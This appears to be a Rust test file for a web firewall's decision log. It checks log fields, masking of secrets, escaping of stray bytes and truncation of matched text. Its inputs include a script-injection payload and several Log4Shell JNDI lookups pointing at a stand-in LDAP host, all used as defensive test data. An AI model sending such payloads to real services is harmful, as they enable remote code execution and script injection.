//! The decision log's line: the legacy layer's fields, and nothing that should not be in a log.

#[cfg(test)]
mod support;

use support::{get, post};

#[test]
fn a_line_has_the_legacy_fields_and_the_new_ones() {
    let run = get("/matches/1?q=%3Cscript%3Ealert(1)%3C/script%3E&page=2")
        .header("x-request-id", "7f1c-42")
        .run("{}");
    let line = run.line();
    let entry = &run.reports[0].entries()[0];
    assert_eq!(
        line,
        serde_json::json!({
            "timestamp": "2026-11-22T16:56:34.007Z",
            "level": "warn",
            "type": "security",
            "event": "XSS_DETECTED",
            "category": "XSS",
            "rule": entry.rule.name(),
            "description": entry.rule.description(),
            "client_ip": "198.51.100.7",
            "path": "/matches/1?q=%3Cscript%3Ealert(1)%3C/script%3E&page=2",
            "blocked": true,
            "matched": String::from_utf8(entry.matched.clone()).unwrap(),
            "rule_id": entry.rule.id(),
            "target": "query:q",
            "decodings": "percent",
            "score": run.reports[0].score,
            "threshold": 5,
            "action": "block",
            "mode": "block",
            "request_id": "7f1c-42",
            "host": "shop.example.com",
            "method": "GET",
            "also": line["also"],
        })
    );
}

#[test]
fn secrets_are_masked() {
    let jndi = "${jndi:ldap://x.example/hunter2}";
    for case in [
        get("/").header("authorization", jndi),
        get("/").header("cookie", format!("session={jndi}")),
        get("/").header("x-api-key", jndi),
        get("/?access_token=$%7Bjndi:ldap://x.example/hunter2%7D&page=2"),
        post(
            "/",
            "application/json",
            serde_json::json!({ "password": jndi }).to_string(),
        ),
        post(
            "/",
            "application/x-www-form-urlencoded",
            "new_password=$%7Bjndi:ldap://x.example/hunter2%7D",
        ),
    ] {
        let run = case.run("{}");
        assert!(run.blocked_by().starts_with("LOG4SHELL"), "{run:?}");
        assert!(!run.lines[0].contains("hunter2"), "{}", run.lines[0]);
        assert_eq!(run.line()["matched"], "***");
    }
}

#[test]
fn a_secret_in_the_query_is_masked_whatever_was_found() {
    let run = get("/?q=%3Cscript%3Ealert(1)%3C/script%3E&token=hunter2&b").run("{}");
    assert_eq!(
        run.line()["path"],
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E&token=***&b"
    );
}

#[test]
fn any_bytes_make_one_valid_line() {
    let mut value = b"${jndi:ldap://".to_vec();
    value.extend(0x80..=0xff);
    value.extend(b"\x01\x7f\"\\/}");
    let run = get("/\"%00\u{202e}").header("x-note", &value).run("{}");
    for line in &run.lines {
        let _: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(
            line.bytes().all(|byte| byte >= 0x20 && byte != 0x7f),
            "{line}"
        );
    }
    assert!(!run.lines.is_empty());
}

#[test]
fn matched_text_is_cut_at_a_character() {
    let long = format!("${{jndi:ldap://{}}}", "한".repeat(200));
    let run = get("/").header("x-note", long).run("{}");
    let matched = run.line()["matched"].as_str().unwrap().to_owned();
    assert!(matched.len() <= 100, "{}", matched.len());
    assert!(
        !matched.contains('\u{fffd}') && !matched.contains("\\x"),
        "{matched}"
    );
}

#[test]
fn matched_text_can_be_left_out() {
    let run = get("/?q=%3Cscript%3Ealert(1)%3C/script%3E").run(r#"{"logging":{"matched":false}}"#);
    assert_eq!(run.line()["matched"], "");
}
